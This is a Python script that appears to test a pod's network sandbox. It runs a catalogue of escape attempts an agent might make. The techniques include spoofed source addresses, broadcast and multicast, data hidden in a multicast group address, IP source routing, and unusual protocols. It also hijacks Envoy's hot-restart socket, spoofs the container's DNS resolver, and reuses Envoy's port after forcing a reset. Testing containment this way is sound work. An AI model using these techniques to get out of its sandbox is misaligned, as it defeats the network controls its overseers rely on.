"""The attacks of an agent in the pod that need more than a line of shell.

    attacker.py WAY [ARGUMENTS]

A way out carries MARKER: internet.py notes every packet that has it inside.
"""

import ctypes
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

MARKER = b"weir-leak!"
FREEBIND4, FREEBIND6 = 15, 78
UDPLITE, SCTP, DCCP, MPTCP = 136, 132, 33, 262
BINDTODEVICE = 25


def udp(address, port, *options, source=None, protocol=0):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as sender:
        for option in options:
            sender.setsockopt(*option)
        if source:
            sender.bind((source, 0))
        sender.sendto(MARKER * 3, (address, port))


def tcp(address, port, *options, protocol=0, fast=False):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM, protocol) as sender:
        for option in options:
            sender.setsockopt(*option)
        if fast:
            sender.sendto(MARKER, socket.MSG_FASTOPEN, (address, port))
        sender.settimeout(1)
        if not fast:
            sender.connect((address, port))
            sender.sendall(MARKER)
        sender.recv(1)


def ping(address):
    six = ":" in address
    family, protocol, kind = (socket.AF_INET6, 58, 128) if six else (socket.AF_INET, 1, 8)
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as sender:
        sender.sendto(struct.pack("!BBHHH", kind, 0, 0, 0, 1) + MARKER, (address, 0))


def join(_):
    """Joins a group whose address carries data: the kernel reports it on the link (MLD, RFC 3810)."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as member:
        group = b"\xff\x3e\0\0\0\0" + MARKER
        member.setsockopt(41, 20, group + struct.pack("=I", socket.if_nametoindex("eth0")))
        time.sleep(1)


def foreign(target):
    udp(target, 777, (41, FREEBIND6, 1), source="2600:1::2")


def broadcast(address):
    udp(address, 9, (1, socket.SO_BROADCAST, 1), (0, socket.IP_MULTICAST_IF, socket.inet_aton("10.1.0.2")))


def source_routed(_):
    """Source routing through the pod's own name server (RFC 791)."""
    route = b"\x83\x0b\x04" + socket.inet_aton("10.1.0.1") + socket.inet_aton("20.0.0.2") + b"\0"
    tcp("20.0.0.2", 22, (0, socket.IP_OPTIONS, route))


def hello(name):
    to_peer = ssl.MemoryBIO()
    try:
        ssl._create_unverified_context().wrap_bio(ssl.MemoryBIO(), to_peer, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return to_peer.read()


def envoys_port(peer, port):
    """The source port of Envoy's connection to this peer, which every process in the pod can read."""
    end = f"{struct.unpack('=I', socket.inet_aton(peer))[0]:08X}:{port:04X}"
    while True:
        for line in [line.split() for name in ("tcp", "tcp6") for line in open(f"/proc/net/{name}")]:
            if line[2].endswith(end) and line[3] == "01" and line[7] == "1337":
                return int(line[1].rsplit(":")[-1], 16)


def go_on(_):
    """Makes the server reset a connection of Envoy, and dials the server from the same port."""
    with socket.create_connection(("20.0.0.3", 443)) as first:
        first.sendall(hello("cut.example.com"))
        port = envoys_port("20.0.0.3", 443)
        print("found", flush=True)
        first.sendall(b"cut")
        try:
            first.recv(1)
        except OSError:
            pass
    with socket.socket() as second:
        second.setsockopt(1, socket.SO_REUSEADDR, 1)
        second.settimeout(1)
        second.bind(("10.1.0.2", port))
        second.connect(("20.0.0.3", 443))
        second.sendall(MARKER)
        second.recv(1)


def serve(port):
    """Waits for a connection from outside."""
    with socket.create_server(("::", int(port)), family=socket.AF_INET6, dualstack_ipv6=True) as listener:
        print("listening", flush=True)
        listener.settimeout(15)
        connection, _ = listener.accept()
        connection.sendall(b"HTTP/1.1 200 taken\r\ncontent-length: 0\r\n\r\n")
        connection.close()


def raw(path):
    """Sends each of the byte strings in a file on its own connection, to port 80 of an unrelated server."""

    def send(what):
        try:
            with socket.create_connection(("20.0.0.2", 80)) as connection:
                connection.settimeout(5)
                connection.sendall(bytes(what))
                while connection.recv(65536):
                    pass
        except OSError:
            pass

    with open(path) as file:
        threads = [threading.Thread(target=send, args=(what,)) for what in json.load(file)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def hot_restart(_):
    """Requests Envoy's listener as its successor would, and connects out through it."""

    def field(number, content):
        return bytes([number << 3 | 2, len(content)]) + content

    def named(name):
        return b"\0" + name.ljust(107, b"\0")

    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as child:
        child.bind(named(b"envoy_domain_socket_child_1"))
        child.settimeout(3)
        # HotRestartMessage{request: {pass_listen_socket: {address, worker_index: 0}}}
        message = field(1, field(1, field(1, b"tcp://[::]:15001") + b"\x10\0"))
        child.sendto(struct.pack("!Q", len(message)) + message, named(b"envoy_domain_socket_parent_0"))
        _, (handed, *_), *_ = child.recvmsg(4096, socket.CMSG_SPACE(4))
        with socket.socket(fileno=struct.unpack("=i", handed[2][:4])[0]) as listener:
            listener.shutdown(socket.SHUT_RDWR)
            listener.connect(("::ffff:20.0.0.2", 22))


def answer(question, address):
    end = question.index(b"\0", 12) + 5
    said = b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4" + socket.inet_aton(address)
    return question[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question[12:end] + said


def name_server(bound, address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(bound)
        server.settimeout(15)
        while True:
            question, client = server.recvfrom(512)
            if question == b"the end":
                return
            server.sendto(answer(question, address), client)


def resolver(port):
    """The resolver that a container engine has behind 127.0.0.11, to which a rule redirects."""
    name_server(("127.0.0.11", int(port)), "20.0.0.1")


def stand_in(_):
    """Sends to all ports from the resolver's address: queries from those ports then count as replies to this, and no
    rule redirects them to the resolver."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.11", 53))
        low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
        for port in range(low, high + 1):
            try:
                server.sendto(b"x", ("127.0.0.1", port))
            except OSError:
                pass
        with socket.create_server(("127.0.0.1", 7777)) as ready:
            ready.settimeout(15)
            threading.Thread(target=ready.accept, daemon=True).start()
            server.settimeout(4)
            while True:
                question, client = server.recvfrom(512)
                if len(question) > 12:
                    server.sendto(answer(question, "6.6.6.6"), client)


WAYS = {
    "a foreign source, to one's own address": lambda: foreign("fd00:1::2"),
    "a foreign source, to ::1": lambda: foreign("::1"),
    "a foreign source, to elsewhere": lambda: foreign("2600:1::1"),
    "a group's address": lambda: join(None),
    "broadcast": lambda: broadcast("255.255.255.255"),
    "broadcast of the link": lambda: broadcast("10.1.0.255"),
    "multicast": lambda: broadcast("224.0.0.1"),
    "multicast by IPv6": lambda: udp("ff02::1", 9, (41, 17, socket.if_nametoindex("eth0"))),
    "UDP-Lite": lambda: udp("20.0.0.2", 9, protocol=UDPLITE),
    "UDP bound to eth0": lambda: udp("20.0.0.2", 9, (1, BINDTODEVICE, b"eth0")),
    "UDP bound to the port of DNS": lambda: udp("20.0.0.2", 53),
    "UDP in pieces": lambda: udp_in_pieces(),
    "ping": lambda: ping("20.0.0.2"),
    "ping by IPv6": lambda: ping("2600:1::2"),
    "TCP bound to eth0": lambda: tcp("20.0.0.1", 22, (1, BINDTODEVICE, b"eth0")),
    "MPTCP": lambda: tcp("20.0.0.1", 22, protocol=MPTCP),
    # The following need not arrive even without rules: the kernel refuses them or does not support them.
    "a foreign source by IPv4": lambda: udp("20.0.0.1", 9, (0, FREEBIND4, 1), source="20.0.0.2"),
    "UDP bound to lo": lambda: udp("20.0.0.2", 9, (1, BINDTODEVICE, b"lo")),
    "TCP bound to lo": lambda: tcp("20.0.0.1", 22, (1, BINDTODEVICE, b"lo")),
    "TCP with data in the SYN": lambda: tcp("20.0.0.1", 22, fast=True),
    "SCTP": lambda: tcp("20.0.0.2", 22, protocol=SCTP),
    "DCCP": lambda: tcp("20.0.0.2", 22, protocol=DCCP),
    "a source route": lambda: source_routed(None),
    "SMC": lambda: smc(),
}


def udp_in_pieces():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(MARKER * 500, ("20.0.0.2", 9))


def smc():
    """TCP connections that the kernel opens on behalf of a process."""
    libc = ctypes.CDLL(None, use_errno=True)
    number = libc.socket(43, socket.SOCK_STREAM, 0)
    if number < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    where = struct.pack("=H", 2) + struct.pack("!H", 22) + socket.inet_aton("20.0.0.1") + bytes(8)
    libc.connect(number, where, len(where))
    libc.send(number, MARKER, len(MARKER), 0)


def main():
    way = sys.argv[1]
    if way == "all":
        for name, go in WAYS.items():
            try:
                go()
            except OSError as error:
                print(name, error)
        return
    if way in WAYS:
        WAYS[way]()
    else:
        others = {
            "go-on": go_on,
            "hot-restart": hot_restart,
            "raw": raw,
            "resolver": resolver,
            "serve": serve,
            "stand-in": stand_in,
        }
        others[way]((sys.argv + [None])[2])


main()
